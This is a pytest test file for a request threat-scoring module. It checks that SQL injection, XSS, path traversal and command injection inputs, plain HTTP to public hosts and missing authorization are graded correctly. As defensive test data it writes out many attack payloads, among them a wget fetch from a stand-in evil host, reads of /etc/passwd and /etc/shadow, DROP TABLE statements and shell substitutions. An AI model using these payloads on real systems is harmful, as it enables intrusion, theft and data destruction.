"""Threat level and reasons: injections and plain HTTP are high, no authorization is medium."""

import orjson
import pytest

from core.threat import MAX_BODY_SCAN, Threat, assess_threat, public_host


def threat(
    *,
    scheme="https",
    host="api.example.com",
    path="/api/items",
    query="",
    body="",
    status=200,
    has_authorization=True,
) -> Threat:
    return assess_threat(
        scheme=scheme, host=host, path=path, query=query, body=body, status=status, has_authorization=has_authorization
    )


def json_body(value) -> str:
    """Bodies arrive as the JSON text the record keeps."""
    return orjson.dumps(value).decode()


def test_an_authorized_https_call_with_clean_input_is_low():
    assert threat() == Threat("low", ())


# --- SQL injection ---


@pytest.mark.parametrize(
    "query",
    [
        "user=admin' OR 1=1--",
        "user=admin' or 'a'='a",
        "user=x') or ('1'='1",
        "user=admin'--",
        "user=admin' #",
        "id=1 OR 1=1",
        "id=1 UNION SELECT username, password FROM users",
        "id=1+UNION+ALL+SELECT+1,2",
        "id=1/**/UNION/**/SELECT/**/1",
        "name=x'; DROP TABLE users; --",
        "id=1; DELETE FROM accounts",
        "id=1 AND SLEEP(5)",
        "id=BENCHMARK(1000000,MD5(1))",
        "id=1'; WAITFOR DELAY '0:0:5'--",
        "id=1 and 1=(select count(*) from information_schema.tables)",
    ],
)
def test_sql_injection_in_the_query_is_high(query):
    assert threat(query=query) == Threat("high", ("SQL injection pattern in query",))


def test_sql_injection_is_found_through_url_encoding():
    assert threat(query="user=admin%27%20OR%20%271%27%3D%271").level == "high"


def test_sql_injection_is_found_through_double_url_encoding():
    assert threat(query="user=admin%2527%2520OR%25201%253D1").reasons == ("SQL injection pattern in query",)


def test_sql_injection_is_found_whatever_the_case():
    assert threat(query="id=1 uNiOn SeLeCt 1").level == "high"


def test_sql_injection_in_the_path_is_high():
    assert threat(path="/api/items/1' or '1'='1").reasons == ("SQL injection pattern in path",)


def test_sql_injection_in_the_body_is_high():
    body = json_body({"username": "admin' OR '1'='1' --", "password": "*****"})
    assert threat(body=body) == Threat("high", ("SQL injection pattern in body",))


# --- XSS ---


@pytest.mark.parametrize(
    "query",
    [
        "q=<script>alert(1)</script>",
        "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "next=javascript:alert(document.cookie)",
        'q=" onerror="alert(1)',
        "q=<img src=x onerror=alert(1)>",
        "q=<svg/onload=alert(1)>",
        "q=<iframe src=//evil.example>",
    ],
)
def test_xss_in_the_query_is_high(query):
    assert threat(query=query).reasons == ("XSS pattern in query",)


def test_xss_in_the_body_is_high():
    assert threat(body=json_body({"bio": "<img src=x onerror=alert(1)>"})).reasons == ("XSS pattern in body",)
    assert threat(body=json_body({"site": "javascript:alert(1)"})).reasons == ("XSS pattern in body",)


# --- Path traversal ---


@pytest.mark.parametrize(
    "path",
    [
        "/files/../../etc/passwd",
        "/files/..%2f..%2fsecret",
        "/files/%2e%2e/%2e%2e/secret",
        "/files/%252e%252e%252fsecret",
        "/files/..\\..\\windows\\win.ini",
        "/download/etc/passwd",
        "/static/..;/admin",
    ],
)
def test_path_traversal_in_the_path_is_high(path):
    assert threat(path=path).reasons == ("Path traversal in path",)


def test_path_traversal_in_the_query_is_high():
    assert threat(query="file=../../../../etc/shadow").reasons == ("Path traversal in query",)
    assert threat(query="file=/proc/self/environ").reasons == ("Path traversal in query",)


def test_path_traversal_in_the_body_is_high():
    assert threat(body=json_body({"file": "../../../etc/passwd"})).reasons == ("Path traversal in body",)
    assert threat(body=json_body({"file": "..\\..\\boot.ini"})).reasons == ("Path traversal in body",)


# --- Command injection ---


@pytest.mark.parametrize(
    "query",
    [
        "host=8.8.8.8; cat ~/.bashrc",
        "host=8.8.8.8;id",
        "host=8.8.8.8 | sh",
        "host=x|bash -c 'id'",
        "host=1.1.1.1 && wget http://evil.example/x",
        "host=1.1.1.1 & whoami",
        "name=$(whoami)",
        "name=`id`",
        "host=x%0Auname -a",
        "host=x;rm -rf /tmp/x",
    ],
)
def test_command_injection_in_the_query_is_high(query):
    assert threat(query=query).reasons == ("Command injection pattern in query",)


def test_command_injection_in_the_body_is_high():
    assert threat(body=json_body({"host": "127.0.0.1; whoami"})).reasons == ("Command injection pattern in body",)
    assert threat(body=json_body({"name": "`uname -a`"})).reasons == ("Command injection pattern in body",)


# --- Ordinary input is not a threat ---


@pytest.mark.parametrize(
    "value",
    [
        {"name": "Siobhan O'Brien", "company": "O'Reilly & Sons", "note": "it's 5 or 6 = fine"},
        {"action": "select", "field": "update", "sql_words": "Select your plan; update it later", "union": "European Union"},
        {"id": "550e8400-e29b-41d4-a716-446655440000", "date": "2024-01-15", "range": "2024-01--2024-02"},
        {"note": "Leave at the door -- thanks! (back door)", "args": ["--verbose", "--dry-run"]},
        {"or": "x", "and": "y", "order": "desc", "price": "$(5)", "total": "$5.00"},
        {"text": "Run `npm install`, then open ../docs/readme.md", "markdown": "**bold** and _italic_"},
        {"html": '<p class="x"><a href="https://example.com">link</a><img src="a.png"></p>'},
        {"description": "manuscript: draft", "phone": "+353 1 555 0100", "email": "a.b@example.com"},
        {"comment": "Tom & Jerry; cat lovers unite | fun for all", "discount": "50% off"},
    ],
)
def test_ordinary_json_bodies_are_not_a_threat(value):
    assert threat(body=json_body(value)) == Threat("low", ())


@pytest.mark.parametrize(
    "query",
    [
        "q=rock+%27n%27+roll&sort=-created",
        "q=select+update+delete+from+where",
        "online=true&id=5&and=1&or=2",
        "date=2024-01-15T10:00:00Z&tz=Europe/Dublin",
        "email=jane%40example.com&name=O%27Brien",
        "filter=price>10&filter=price<20",
    ],
)
def test_ordinary_queries_are_not_a_threat(query):
    assert threat(query=query) == Threat("low", ())


def test_ordinary_paths_are_not_a_threat():
    for path in ("/api/v1/orders/1234", "/api/users/me/settings", "/files/report.final.pdf", "/"):
        assert threat(path=path) == Threat("low", ())


def test_only_the_first_64_kib_of_a_body_are_scanned():
    padding = "x" * MAX_BODY_SCAN
    assert threat(body=json_body({"a": padding, "b": "<script>alert(1)</script>"})).level == "low"
    assert threat(body=json_body({"b": "<script>alert(1)</script>", "a": padding})).level == "high"


# --- Plain HTTP ---


@pytest.mark.parametrize(
    ("host", "shown"),
    [
        ("example.com", "example.com"),
        ("api.example.com:8080", "api.example.com"),
        ("user:pw@API.Example.com", "api.example.com"),
        ("8.8.8.8", "8.8.8.8"),
        ("[2606:4700:4700::1111]:80", "2606:4700:4700::1111"),
    ],
)
def test_plain_http_to_a_public_host_is_high(host, shown):
    assert threat(scheme="http", host=host) == Threat("high", (f"Plain HTTP to public host {shown}",))


@pytest.mark.parametrize(
    "host",
    [
        "localhost",
        "localhost:8000",
        "127.0.0.1:8000",
        "127.1.2.3",
        "[::1]:8000",
        "10.1.2.3",
        "172.16.0.5",
        "172.31.255.1",
        "192.168.0.10:80",
        "printer.local",
        "api.internal",
        "host.docker.internal:5000",
        "api",
        "app.localhost",
    ],
)
def test_plain_http_to_loopback_or_private_hosts_is_not_a_threat(host):
    assert threat(scheme="http", host=host) == Threat("low", ())


def test_https_to_a_public_host_is_not_a_threat():
    assert threat(scheme="https", host="example.com").level == "low"


def test_plain_http_without_a_host_is_not_judged():
    assert threat(scheme="http", host=None).level == "low"


def test_public_host_strips_ports_and_user_info():
    assert public_host("user@Example.COM:443") == "example.com"
    assert public_host("172.32.0.1") == "172.32.0.1"  # just outside 172.16/12
    assert public_host("172.20.0.1") is None


# --- Authorization ---


@pytest.mark.parametrize("status", [200, 201, 204, 301, 304])
def test_a_successful_call_without_authorization_is_medium(status):
    assert threat(status=status, has_authorization=False) == Threat("medium", ("No authorization on successful call",))


@pytest.mark.parametrize("status", [400, 401, 403, 404, 500])
def test_a_failed_call_without_authorization_is_low(status):
    assert threat(status=status, has_authorization=False) == Threat("low", ())


# --- Several reasons ---


def test_every_reason_that_applies_is_kept_and_the_level_is_the_highest():
    result = threat(
        scheme="http",
        host="example.com",
        path="/files/../../etc/passwd",
        query="q=<script>alert(1)</script>",
        body=json_body({"name": "x'; DROP TABLE users; --"}),
        has_authorization=False,
    )
    assert result == Threat(
        "high",
        (
            "Path traversal in path",
            "XSS pattern in query",
            "SQL injection pattern in body",
            "Plain HTTP to public host example.com",
            "No authorization on successful call",
        ),
    )


def test_one_field_can_hold_several_kinds_of_injection():
    assert threat(query="x=<script>alert(1)</script>&y=1 UNION SELECT 1").reasons == (
        "SQL injection pattern in query",
        "XSS pattern in query",
    )


def test_adversarial_bodies_are_scanned_in_bounded_time():
    import time

    worst = 0.0
    pieces = ("'", "<a ", "' or ", "|", "; ", "%", "' " + " " * MAX_BODY_SCAN, "<a" + " " * MAX_BODY_SCAN)
    for piece in pieces:
        body = (piece * (MAX_BODY_SCAN // len(piece) + 1))[:MAX_BODY_SCAN]
        started = time.perf_counter()
        threat(body=body, query=body[:8192], path=body[:8192])
        worst = max(worst, time.perf_counter() - started)
    assert worst < 1.0  # linear scanning: tens of ms here; a quadratic pattern takes minutes
